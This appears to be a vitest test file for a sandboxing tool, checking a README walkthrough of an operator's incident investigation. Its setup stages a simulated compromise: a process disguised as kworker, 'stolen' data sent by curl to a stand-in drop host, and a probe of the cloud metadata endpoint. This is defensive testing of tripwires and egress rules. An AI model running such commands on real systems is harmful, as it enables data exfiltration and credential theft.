import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { canRun } from '../kernel/require.ts'
import { TestHost } from './host.ts'
import { PretendInternet, TEST_ADDRESS } from './internet-kit.ts'
import { ownEtc, typed } from './readme-machine.ts'
import { compare, walkOf } from './readme-walk.ts'

const WALK = walkOf('incident')
const API = 'api.example.org'
const DROP = 'paste.example.net'
const ADDRESS: Readonly<Record<string, string>> = { [API]: '93.184.215.14', [DROP]: '93.184.215.15' }

describe.skipIf(!canRun('/usr/bin/curl', '/usr/bin/python3'))('the questions of an operator after an incident, as the README answers them', () => {
  const host = new TestHost(24)
  const net = new PretendInternet('incident')
  let home = ''

  beforeAll(async () => {
    home = mkdtempSync('/var/lib/cordon-incident-')
    const { etc, mounts } = ownEtc(host)
    const executable = host.install('mine', 'does-as-told')
    mkdirSync(`${host.dir}/www`)
    writeFileSync(`${host.dir}/www/index.html`, 'hello')
    await net.start({ zone: Object.fromEntries(Object.entries(ADDRESS).map(([name, address]) => [name, { A: [address] }])), ports: [80], mounts: `${mounts}; mkdir -p /srv/www; mount --bind ${host.dir}/www /srv/www` })
    writeFileSync(`${etc}/cordon/policies/mine.yaml`, `plugin: mine
executable: { path: ${executable} }
tripwires: true
env: { API_TOKEN: t0ken }
egress:
  allow:
    - { host: ${API}, ports: [443], reason: submits URLs }
    - { host: "*.example.net", ports: [443], reason: mirrors }
`)
    await host.start({ prefix: [...net.enter] })
    await host.settled(['mine'], ['running'])
    // Its usual work; then somebody makes it do something else.
    await told(`curl -ksS -m 30 https://${API}/ >/dev/null; echo usual >/data/state`)
    await told(`cp /bin/sleep /tmp/kworker; (exec /tmp/kworker 300 >/dev/null 2>&1 &); echo stolen >/data/.cache; curl -ksS -m 30 https://${DROP}/ -d @/data/.cache >/dev/null; getent hosts "$(echo $BACKUP_URL | cut -d/ -f3)"; curl -sS -m 30 http://169.254.169.254/ ; true`)
    await host.recorded(({ type }) => type === 'tripwire.touched')
  })
  afterAll(async () => {
    try {
      await host.close()
    } finally {
      net.close()
      rmSync(home, { recursive: true, force: true })
    }
  })

  const run = (commands: string): Promise<{ status: number; out: string }> => typed(net, commands, home)
  const told = (command: string) => run(`curl -sS --interface ${TEST_ADDRESS} -X POST --data-binary '${command.replaceAll("'", `'\\''`)}' -H 'authorization: Bearer ${host.token()}' http://127.0.0.1:${host.port}/api/x/mine/do`)

  test('each is there, with what it prints', () => {
    expect(WALK.length).toBeGreaterThanOrEqual(13)
    expect(WALK.filter(({ prints }) => prints.length === 0)).toEqual([])
  })

  test.each(WALK.map(({ commands, prints }, at) => ({ at: at + 1, commands, prints })))('$at: $commands', async ({ commands, prints }) => {
    const { out } = await run(commands)
    compare(out, prints)
  })
})
